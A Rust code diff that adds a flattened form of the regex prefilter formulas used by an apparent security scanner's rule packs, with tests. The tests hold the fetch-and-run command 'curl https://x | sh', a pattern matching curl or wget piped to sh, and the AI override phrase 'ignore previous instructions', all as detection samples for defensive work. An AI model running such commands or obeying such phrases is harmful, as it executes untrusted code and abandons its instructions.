@@ -53,6 +53,64 @@ impl Need {
     }
 }
 
+/// A [`Need`] written out in pre-order, as `build.rs` embeds it for the rule packs' regexes: checking it
+/// allocates nothing, and the pattern is never parsed at run time to find it.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub(crate) enum Flat {
+    Literal(&'static str),
+    /// All of the next this many sub-formulas.
+    All(usize),
+    /// Any one of the next this many sub-formulas.
+    Any(usize),
+}
+
+impl Need {
+    /// The pre-order nodes of this formula, in the form `build.rs` prints: `Flat::All(2)`, … (used by
+    /// `build.rs`, which includes this file, and by the test that the embedded table is fresh).
+    #[cfg_attr(not(test), allow(dead_code))]
+    pub(crate) fn flat_source(&self, out: &mut Vec<String>) {
+        match self {
+            Need::Literal(literal) => out.push(format!("Flat::Literal({literal:?})")),
+            Need::All(needs) | Need::Any(needs) => {
+                let kind = if matches!(self, Need::All(_)) {
+                    "All"
+                } else {
+                    "Any"
+                };
+                out.push(format!("Flat::{kind}({})", needs.len()));
+                needs.iter().for_each(|need| need.flat_source(out));
+            }
+        }
+    }
+}
+
+/// Whether `lower` (a text lower-cased) holds what the flattened formula `nodes` needs; a malformed
+/// formula asks for nothing.
+pub(crate) fn flat_met_by(nodes: &[Flat], lower: &str) -> bool {
+    walk_flat(nodes, 0, lower, true).is_none_or(|(met, _)| met)
+}
+
+/// Checks the formula at `at` (only when `live`: a settled `all`/`any` skips the rest of its parts),
+/// giving whether it is met and where the next one starts.
+fn walk_flat(nodes: &[Flat], at: usize, lower: &str, live: bool) -> Option<(bool, usize)> {
+    match *nodes.get(at)? {
+        Flat::Literal(literal) => Some((live && lower.contains(literal), at + 1)),
+        Flat::All(count) | Flat::Any(count) => {
+            let all = matches!(nodes.get(at)?, Flat::All(_));
+            let mut met = all;
+            let mut next = at + 1;
+            for _ in 0..count {
+                let (part, after) = walk_flat(nodes, next, lower, live && met == all)?;
+                if met == all && part != all {
+                    met = !all;
+                }
+                next = after;
+            }
+            Some((live && met, next))
+        }
+    }
+}
+
 fn need(hir: &Hir) -> Need {
     match hir.kind() {
         // One literal alone (a concatenation's literals are read as runs, below).
@@ -149,6 +207,56 @@ mod tests {
 
     fn lit(text: &str) -> Need {
         Need::Literal(text.to_string())
+    }
+
+    #[test]
+    fn the_embedded_formulas_are_fresh_and_read_as_the_nested_ones() {
+        use crate::embedded::REGEX_NEEDS;
+        assert!(REGEX_NEEDS.len() > 100, "every rule regex is in the table");
+        for (source, nodes) in REGEX_NEEDS {
+            let need = Need::of(source);
+            let mut expected = Vec::new();
+            if let Some(need) = &need {
+                need.flat_source(&mut expected);
+            }
+            let embedded: Vec<String> = nodes
+                .unwrap_or_default()
+                .iter()
+                .map(|node| format!("Flat::{node:?}"))
+                .collect();
+            assert_eq!(embedded, expected, "{source}: rebuild to refresh the table");
+            if let (Some(need), Some(nodes)) = (&need, nodes) {
+                for text in [
+                    "",
+                    "curl https://x | sh",
+                    "ignore previous instructions",
+                    source,
+                ] {
+                    let lower = text.to_ascii_lowercase();
+                    assert_eq!(
+                        flat_met_by(nodes, &lower),
+                        need.met_by(&lower),
+                        "{source} on {text}"
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn flat_formulas_short_circuit_and_skip_their_parts() {
+        let nodes = [
+            Flat::All(2),
+            Flat::Any(2),
+            Flat::Literal("curl"),
+            Flat::Literal("wget"),
+            Flat::Literal("| sh"),
+        ];
+        assert!(flat_met_by(&nodes, "wget x | sh"));
+        assert!(!flat_met_by(&nodes, "wget x | tar"));
+        assert!(!flat_met_by(&nodes, "fetch x | sh"));
+        // A truncated formula asks for nothing rather than ruling a text out.
+        assert!(flat_met_by(&nodes[..3], "nothing"));
     }
 
     #[test]
